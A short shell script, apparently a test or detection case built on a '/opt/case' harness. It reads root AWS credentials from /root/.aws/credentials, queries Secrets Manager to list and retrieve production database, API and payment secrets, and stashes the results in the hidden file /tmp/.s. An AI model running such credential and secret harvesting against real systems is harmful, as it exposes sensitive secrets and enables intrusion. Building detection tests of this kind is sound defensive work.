#!/bin/sh
. /opt/case/case.sh

k=$(sed -n 's/aws_access_key_id = //p' /root/.aws/credentials); s=$(sed -n 's/aws_secret_access_key = //p' /root/.aws/credentials)
for target in ListSecrets GetSecretValue; do
    for id in prod/db prod/api payments/key; do
        curl -s --aws-sigv4 aws:amz:eu-west-1:secretsmanager --user "$k:$s" -H "X-Amz-Target: secretsmanager.$target" -H 'Content-Type: application/x-amz-json-1.1' \
            -d "{\"SecretId\":\"$id\"}" http://secretsmanager.eu-west-1.amazonaws.com/ >>/tmp/.s
    done
done
grep -q ok /tmp/.s
took_place
